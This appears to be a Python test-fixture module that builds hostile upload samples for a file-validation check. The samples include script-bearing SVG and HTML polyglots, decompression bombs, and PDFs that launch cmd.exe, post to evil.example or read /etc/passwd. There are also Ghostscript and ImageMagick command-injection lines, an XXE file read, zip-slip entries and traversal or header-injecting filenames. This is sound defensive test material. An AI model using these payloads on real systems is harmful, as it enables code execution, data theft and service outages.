"""Files that want to be more than they say: made here, each with whether it is taken in as a document of an event.

What is taken in is only ever handed out as a download. As a picture, each is refused or drawn anew.
"""

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

from PIL import Image, PngImagePlugin

# in everything that should never come back out of a picture, or be run
MARK = b"hostile_7731"
SCRIPT = b"<script>" + MARK + b"()</script>"
HTML = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"


@dataclass(frozen=True)
class Hostile:
    """A file, what it calls itself, and whether it passes as a document to be downloaded."""

    about: str
    name: str
    content: bytes
    claimed: str = "application/octet-stream"
    kept: bool = False


def drawn(kind: str, size: tuple[int, int] = (40, 30), **options: object) -> bytes:
    out = io.BytesIO()
    Image.effect_noise(size, 60).convert("RGB").save(out, kind, **options)
    return out.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, *more: bytes, rows: bytes = b"") -> bytes:
    """A PNG of these dimensions, whatever is in it."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def zipped(**members: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name.replace("__", "/").replace("--", "."), content)
    return out.getvalue()


def pdf(*objects: bytes) -> bytes:
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (number, one) for number, one in enumerate(objects, 1))
    return b"%PDF-1.7\n" + body + b"trailer << /Root 1 0 R >>\n%%EOF\n"


def acting(action: bytes) -> bytes:
    """A PDF that does something when it is opened."""
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction " + action + b" >>", b"<< /Type /Pages /Kids [] /Count 0 >>"
    )


def pictures() -> Iterator[Hostile]:
    gif, jpeg, webp, plain = drawn("GIF"), drawn("JPEG"), drawn("WEBP"), drawn("PNG")
    yield Hostile("SVG with a script", "a.svg", b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>")
    yield Hostile("SVG called PNG", "a.png", b"<svg onload='" + MARK + b"()'/>", "image/png")
    yield Hostile("SVG after a declaration", "a.svg", b"<?xml version='1.0'?><svg onload='x'/>", "image/svg+xml")
    yield Hostile("SVG, packed", "a.svgz", gzip.compress(b"<svg onload='x'/>"), "image/svg+xml")
    yield Hostile("HTML called PNG", "a.png", HTML, "image/png")
    yield Hostile("HTML called JPEG", "photo.jpg", b"\n\n " + HTML, "image/jpeg")
    yield Hostile("HTML after a byte order mark", "a.gif", "\ufeff".encode() + HTML, "image/gif")
    yield Hostile("GIF that is a script", "a.gif", b"GIF89a/*  */=1;" + MARK + b"();//", "image/gif", kept=True)
    yield Hostile("GIF with a page behind it", "a.gif", gif + HTML, "image/gif", kept=True)
    yield Hostile("GIF larger than any screen", "a.gif", gif[:6] + b"\xff\xff\xff\xff" + gif[10:], kept=True)
    yield Hostile("GIF of 2,000 frames", "a.gif", frames(2000), "image/gif", kept=True)
    yield Hostile("GIF, cut off", "a.gif", gif[: len(gif) // 2], "image/gif", kept=True)
    words = PngImagePlugin.PngInfo()
    words.add_text("Comment", SCRIPT.decode())
    yield Hostile("PNG with a script in its words", "a.png", drawn("PNG", pnginfo=words), "image/png", kept=True)
    yield Hostile("PNG with a page behind it", "a.png", plain + HTML, "image/png", kept=True)
    yield Hostile("PNG that is a JAR", "a.png", plain + zipped(META__MF=MARK), "image/png", kept=True)
    yield Hostile("PNG of 60,000 by 60,000", "a.png", png(60_000, 60_000), "image/png", kept=True)
    black = zlib.compress(bytes(20_001) * 20_000, 9)
    yield Hostile("PNG that grows to 400 MB", "a.png", png(20_000, 20_000, rows=black), "image/png", kept=True)
    bomb = zlib.compress(bytes(100_000_000), 9)
    yield Hostile("PNG with a bomb in its words", "a.png", png(4, 4, chunk(b"zTXt", b"a\0\0" + bomb)), kept=True)
    yield Hostile("PNG with a bomb for its colours", "a.png", png(4, 4, chunk(b"iCCP", b"a\0\0" + bomb)), kept=True)
    yield Hostile("PNG without a pixel", "a.png", png(0, 0), "image/png", kept=True)
    yield Hostile("PNG, cut off", "a.png", plain[:-30], "image/png", kept=True)
    yield Hostile("PNG with a wrong sum", "a.png", plain.replace(b"IDAT", b"IDAu"), "image/png", kept=True)
    yield Hostile("JPEG with a page as its comment", "a.jpg", commented(jpeg, HTML), "image/jpeg", kept=True)
    exif = Image.Exif()
    exif[0x010E], exif[0x013B] = f"<?php {MARK.decode()}(); ?>", SCRIPT.decode()
    yield Hostile("JPEG with a program in its EXIF", "a.php.jpg", drawn("JPEG", exif=exif), "image/jpeg", kept=True)
    yield Hostile("JPEG with 65,535 EXIF entries", "a.jpg", segment(jpeg, b"Exif\0\0" + tiff(65_535)), kept=True)
    yield Hostile("JPEG whose EXIF leads in a circle", "a.jpg", segment(jpeg, b"Exif\0\0" + circle()), kept=True)
    yield Hostile("JPEG, cut off", "a.jpg", jpeg[:200], "image/jpeg", kept=True)
    yield Hostile("WebP of 16,383 by 16,383", "a.webp", webp_of(16_383), "image/webp", kept=True)
    yield Hostile("WebP, cut off", "a.webp", webp[:40], "image/webp", kept=True)
    yield Hostile("RIFF that is a sound", "a.webp", b"RIFF\x24\0\0\0WAVEfmt " + bytes(40), "image/webp")
    for kind in ("ICO", "BMP", "TIFF", "PPM", "TGA", "JPEG2000"):
        yield Hostile(f"{kind} called PNG", "a.png", drawn(kind), "image/png")
    yield Hostile(
        "PostScript called JPEG", "a.jpg", b"%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (w) file\n", "image/jpeg", True
    )
    yield Hostile(
        "words for a drawing program", "a.png", b"push graphic-context\nfill 'url(https://e.org/|id)'\n", kept=True
    )


def frames(number: int) -> bytes:
    """A GIF of as many tiny frames."""
    one = b"\x21\xf9\x04\0\x01\0\0\0\x2c\0\0\0\0\x01\0\x01\0\0\x02\x02\x44\x01\0"
    return b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff" + one * number + b";"


def segment(jpeg: bytes, data: bytes) -> bytes:
    data = data[:65_000]
    return jpeg[:2] + b"\xff\xe1" + struct.pack(">H", len(data) + 2) + data + jpeg[2:]


def commented(jpeg: bytes, words: bytes) -> bytes:
    return jpeg[:2] + b"\xff\xfe" + struct.pack(">H", len(words) + 2) + words + jpeg[2:]


def tiff(entries: int) -> bytes:
    return b"II*\0\x08\0\0\0" + struct.pack("<H", entries) + struct.pack("<HHII", 0x0112, 3, 0xFFFFFFFF, 8) * 400


def circle() -> bytes:
    """A directory that names itself as the next."""
    return b"II*\0\x08\0\0\0" + struct.pack("<H", 1) + struct.pack("<HHII", 0x8769, 4, 1, 8) + struct.pack("<I", 8)


def webp_of(side: int) -> bytes:
    frame = struct.pack("<I", (0x9D012A << 0))[:3] + struct.pack("<HH", side, side)
    data = b"\x30\x01\0\x9d\x01\x2a" + struct.pack("<HH", side, side) + frame
    return b"RIFF" + struct.pack("<I", len(data) + 12) + b"WEBPVP8 " + struct.pack("<I", len(data)) + data


def documents() -> Iterator[Hostile]:
    kind = "application/pdf"
    js = b"<< /S /JavaScript /JS (app.alert\\('" + MARK + b"'\\)) >>"
    for about, content in {
        "that runs a script when opened": acting(js),
        "that starts a program": acting(b"<< /S /Launch /F (cmd.exe) /P (/c calc) >>"),
        "that opens an address": acting(b"<< /S /URI /URI (javascript:" + MARK + b"\\(\\)) >>"),
        "that sends a form": acting(b"<< /S /SubmitForm /F (https://evil.example/) >>"),
        "that leads to another machine": acting(b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\a.pdf) /D [0 /Fit] >>"),
        "that imports data": acting(b"<< /S /ImportData /F (file:///etc/passwd) >>"),
        "with a program inside": pdf(b"<< /Type /EmbeddedFile /Subtype /exe >>\nstream\nMZ" + MARK + b"\nendstream"),
        "with a form of XML": pdf(b"<< /Type /Catalog /AcroForm << /XFA (" + SCRIPT + b") >> >>"),
        "with a film to be run": pdf(b"<< /Subtype /RichMedia /RichMediaContent << /Assets (a.swf) >> >>"),
        "that is locked": pdf(b"<< /Type /Catalog >>") + b"trailer << /Encrypt << /Filter /Standard /V 4 >> >>",
        "whose objects go in a circle": pdf(b"<< /Type /Pages /Kids [1 0 R] /Parent 1 0 R >>"),
        "that grows to 100 MB": pdf(
            b"<< /Filter /FlateDecode >>\nstream\n" + zlib.compress(bytes(100_000_000), 9) + b"\nendstream"
        ),
        "that is a page too": b"%PDF-1.4\n" + HTML,
        "that is a JAR too": acting(js) + zipped(META__MF=MARK),
        "cut off": acting(js)[:40],
        "of its first bytes alone": b"%PDF-",
    }.items():
        yield Hostile(f"PDF {about}", "plan.pdf", content, kind, kept=True)
    yield Hostile("page in front of a PDF", "plan.pdf", HTML + acting(js), kind)
    yield Hostile("PDF behind a zero", "plan.pdf", b"\0" + acting(js), kind)
    yield Hostile("PDF that claims to be a page", "plan.html", acting(js), "text/html", kept=True)
    yield Hostile("PDF with a path for a name", "../../../etc/cron.d/job", acting(js), kind, kept=True)
    yield Hostile("PDF with a header in its name", "a%0d%0aContent-Type: text/html;'.pdf", acting(js), kept=True)
    yield Hostile("PDF turned around", "plan\u202efdp.exe", acting(js), kind, kept=True)


def others() -> Iterator[Hostile]:
    word = {"word__document--xml": b"<x/>"}
    yield Hostile("program of Windows", "plan.pdf", b"MZ\x90\0" + MARK, "application/pdf")
    yield Hostile("program of Linux", "a.jpg", b"\x7fELF\x02\x01\x01" + bytes(9), "image/jpeg")
    yield Hostile("text with macros", "plan.docm", zipped(**word, **{"word__vbaProject--bin": MARK}))
    yield Hostile("text that grows to 100 MB", "plan.docx", zipped(**word, big=bytes(100_000_000)), kept=True)
    yield Hostile("archive that climbs out", "plan.zip", zipped(**{"--__--__--__etc__passwd": MARK}))
    yield Hostile("document that claims to be a page", "plan.odt", zipped(mimetype=b"text/html"))
    yield Hostile("archive, broken", "plan.docx", b"PK\x03\x04" + MARK)
    yield Hostile(
        "XML that reads files", "plan.txt", b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>"
    )
    yield Hostile("page in UTF-16", "plan.txt", HTML.decode().encode("utf-16"), "text/plain")
    yield Hostile("film of Flash", "a.png", b"FWS\x09\0" + MARK, "image/png")
    yield Hostile("script of a shell", "plan.txt", b"#!/bin/sh\n" + MARK + b"\n", "text/plain", kept=True)
    yield Hostile("nothing", "plan.pdf", b"", "application/pdf")


ALL = (*pictures(), *documents(), *others())
